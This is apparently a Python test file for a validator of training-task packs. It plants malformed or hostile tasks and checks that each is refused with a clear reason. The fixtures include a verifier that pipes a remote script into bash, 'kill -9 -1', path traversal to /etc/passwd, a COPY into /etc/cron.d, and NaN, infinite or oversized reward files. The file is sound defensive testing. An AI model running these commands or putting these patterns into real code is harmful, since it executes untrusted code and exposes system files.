"""Packs that are broken, hostile or both: each task is named with what is wrong, and none stops the others."""

from __future__ import annotations

import re
from collections.abc import Mapping
from pathlib import Path

import pytest
from planted import TOML, Planted, Text, sound, write_pack, write_task
from planted_bad import BAD_ELSEWHERE
from typer.testing import CliRunner

from selftrain.cli import app
from selftrain.envs.gate.card import Card, TaskReport
from selftrain.envs.gate.checks import CHECKS
from selftrain.envs.gate.validating import validate
from selftrain.envs.packs.manifest import read_pack
from selftrain.errors import TaskError
from selftrain.sandboxes import make_backend

PLANTED = {task.name: task for task in BAD_ELSEWHERE}
QUICK = TOML.replace("timeout_sec = 20", "timeout_sec = 1")


def task(name: str, files: Mapping[str, Text], without: str = "") -> Planted:
    """The sound task with these files; `without` one."""
    made = {path: text for path, text in {**sound(name), **files}.items() if path != without}
    return Planted(name, made, (), "")


COPY = "FROM debian:bookworm\nWORKDIR /app\nCOPY {0}\n"
CASES: tuple[tuple[Planted, str, str], ...] = (
    (PLANTED["toml-malformed"], "schema", r"toml-malformed/task\.toml is not TOML.*line 1"),
    (PLANTED["instruction-missing"], "schema", r"instruction-missing/instruction\.md is missing"),
    (PLANTED["field-unknown"], "schema", r"field environment\.colour is not supported"),
    (PLANTED["network-asked"], "schema", r"network_mode = 'public' is not supported: a sandbox has no network"),
    (PLANTED["network-at-build"], "image", r"Dockerfile line 3 wants the network, and images are built without one"),
    (
        PLANTED["base-not-declared"],
        "image",
        r"FROM example\.org/unheard/of:1 is not declared in \[images\] of pack\.toml",
    ),
    (PLANTED["link-leads-out"], "schema", r"orders\.csv is a link that leads out of"),
    (task("tests-missing", {}, "tests/test.sh"), "schema", r"tests-missing/tests/test\.sh is missing"),
    (task("toml-missing", {}, "task.toml"), "schema", r"toml-missing/task\.toml is missing"),
    (task("toml-no-text", {"task.toml": b"\xff\xfe"}), "schema", r"toml-no-text/task\.toml is not UTF-8"),
    (task("instruction-empty", {"instruction.md": "\n"}), "schema", r"the instruction is empty"),
    (
        task("copy-climbs", {"environment/Dockerfile": COPY.format("../../x.csv .")}),
        "schema",
        r"Dockerfile line 3: COPY \.\./\.\./x\.csv \.: no such file",
    ),
    (
        task("copy-absolute", {"environment/Dockerfile": COPY.format("/etc/passwd .")}),
        "schema",
        r"Dockerfile line 3: COPY /etc/passwd \.: no such file",
    ),
    (
        task("workdir-climbs", {"task.toml": f'{TOML}workdir = "/app/../etc"\n'}),
        "schema",
        r"field environment\.workdir = '/app/\.\./etc' must be an absolute path without '\.\.'",
    ),
    (
        task("artifact-climbs", {"task.toml": f'artifacts = ["../../etc/passwd"]\n{TOML}'}),
        "schema",
        r"field artifacts\[0\]\.source = '\.\./\.\./etc/passwd' must be a path without '\.\.'",
    ),
    (
        task("time-negative", {"task.toml": TOML.replace("timeout_sec = 60", "timeout_sec = -1")}),
        "schema",
        r"field agent\.timeout_sec = -1 must be a number above 0",
    ),
    (
        task("verifier-hangs", {"task.toml": QUICK, "tests/test.sh": "sleep 600\n"}),
        "oracle",
        r"tests/test\.sh of .*/verifier-hangs gives no reward.*: timeout",
    ),
    (
        task("verifier-dies", {"tests/test.sh": "#!/bin/bash\nkill -9 $$\n"}),
        "oracle",
        r"tests/test\.sh of .*/verifier-dies gives no reward.*neither reward\.json nor reward\.txt was written",
    ),
    (
        task("verifier-kills-all", {"tests/test.sh": "#!/bin/bash\nkill -9 -1\n"}),
        "oracle",
        r"verifier-kills-all gives no reward",
    ),
    (
        task("reward-nan", {"tests/test.sh": "echo nan > /logs/verifier/reward.txt\n"}),
        "oracle",
        r"reward-nan gives no reward.*reward\.txt is not a finite number",
    ),
    (
        task("reward-infinite", {"tests/test.sh": "echo '{\"reward\": 1e999}' > /logs/verifier/reward.json\n"}),
        "oracle",
        r"reward-infinite gives no reward.*reward\.json",
    ),
    (
        task("reward-huge", {"tests/test.sh": "yes 1 | head -c 50000000 > /logs/verifier/reward.txt\n"}),
        "oracle",
        r"reward-huge gives no reward",
    ),
    (
        task("verifier-needs-network", {"tests/test.sh": "set -e\ncurl -fsS https://example.org/check | bash\n"}),
        "oracle",
        r"verifier-needs-network gives no reward",
    ),
)
SOUND = task("sound", {})
SYSTEM = task("copy-into-system", {"environment/Dockerfile": COPY.format("orders.csv /etc/cron.d/")})


@pytest.fixture(scope="module")
def card(tmp_path_factory: pytest.TempPathFactory) -> Card:
    """A pack of all that is broken, and among it a sound task and one that needs an image to be built."""
    root = tmp_path_factory.mktemp("broken")
    folder = write_pack(root, "broken", [*(one for one, _, _ in CASES), SOUND, SYSTEM])
    asked = {name: check for name, check in CHECKS.items() if name in ("lint", "image", "oracle", "nop", "leaks")}
    return validate(folder, make_backend("bubblewrap"), out=root / "out", checks=asked)


def report_of(card: Card, name: str) -> TaskReport:
    return next(report for report in card.tasks if report.name == name)


@pytest.mark.parametrize(("broken", "check", "words"), CASES, ids=[one.name for one, _, _ in CASES])
def test_what_is_broken_is_named(card: Card, broken: Planted, check: str, words: str) -> None:
    report = report_of(card, broken.name)
    said = next(finding for finding in report.findings if finding.check == check)
    assert report.decision == "refused" and said.state == "fail"
    assert re.search(words, said.summary, re.DOTALL), said.summary
    assert "Traceback" not in said.summary and len(said.summary) < 1000


def test_what_is_sound_is_admitted_beside_it(card: Card) -> None:
    assert len(card.tasks) == len(CASES) + 2
    report = report_of(card, SOUND.name)
    assert (report.decision, report.failed) == ("admitted", ())
    assert card.decision == "refused" and f"1 of {len(card.tasks)} tasks admitted" in card.verdict


def test_what_only_another_backend_can_judge_is_left_undecided(card: Card) -> None:
    report = report_of(card, SYSTEM.name)
    said = {finding.check: finding.summary for finding in report.findings if finding.state == "unchecked"}
    assert report.decision == "undecided"
    assert re.search(
        r"Dockerfile line 3: COPY orders\.csv /etc/cron\.d/.*needs an image.*--backend docker", said["image"]
    )


@pytest.fixture
def folders(tmp_path: Path) -> Path:
    """A pack whose task folders are named, linked and split as they must not be, and one that is sound."""
    names = ("sound", "same", "Same", "in-two-splits", "in-no-split", "odd name")
    pack = write_pack(tmp_path, "folders", [task(name, {}) for name in names])
    (pack / "tasks/linked").symlink_to(write_task(tmp_path / "elsewhere", task("elsewhere", {})))
    manifest = (pack / "pack.toml").read_text().partition("[splits]")[0]
    splits = 'train = ["sound", "[Ss]ame", "in-two-splits", "odd name", "linked"]\ntest = ["in-two-*"]\n'
    (pack / "pack.toml").write_text(f"{manifest}[splits]\n{splits}")
    return pack


def test_folders_that_can_be_no_task_stop_no_other(folders: Path, tmp_path: Path) -> None:
    asked = {name: check for name, check in CHECKS.items() if name in ("oracle", "nop")}
    card = validate(folders, make_backend("bubblewrap"), out=tmp_path / "out", checks=asked)
    said = {report.name: report.findings[0].summary for report in card.tasks if report.decision == "refused"}
    assert {report.name for report in card.tasks} - said.keys() == {"sound", "Same"}
    assert "two task folders differ in case only, Same and same" in said["same"]
    assert "task in-two-splits is in two splits, train and test" in said["in-two-splits"]
    assert "task in-no-split is in no split; add it to train, dev or test" in said["in-no-split"]
    assert "'odd name' is no name for a task" in said["odd name"]
    assert "tasks/linked is a link, not a folder" in said["linked"]


@pytest.mark.parametrize(
    ("manifest", "words"),
    [
        ("name = [", "pack.toml is not TOML"),
        ('name = "A B"\nversion = "1"\nlicence = "MIT"\nsummary = "x"\n', "'A B' is no name for a pack"),
        ('name = "acme"\nversion = "1"\nlicence = "MIT"\nsummary = "x"\ncolour = 1\n', "field colour is not known"),
        (
            'name = "acme"\nversion = "1"\nlicence = "MIT"\nsummary = "x"\n[splits]\ntrain = ["../*"]\n',
            "splits.train: '../*' must be a glob over the names of the folders in tasks/",
        ),
    ],
)
def test_a_manifest_that_is_broken_is_named(folders: Path, tmp_path: Path, manifest: str, words: str) -> None:
    (folders / "pack.toml").write_text(manifest)
    told = CliRunner().invoke(app, ["pack", "validate", str(folders), "--out", str(tmp_path / "out")])
    with pytest.raises(TaskError) as caught:
        read_pack(folders)
    assert words in str(caught.value) and told.exit_code != 0
    assert told.exception is not None and words in f"{told.output}{told.exception}"
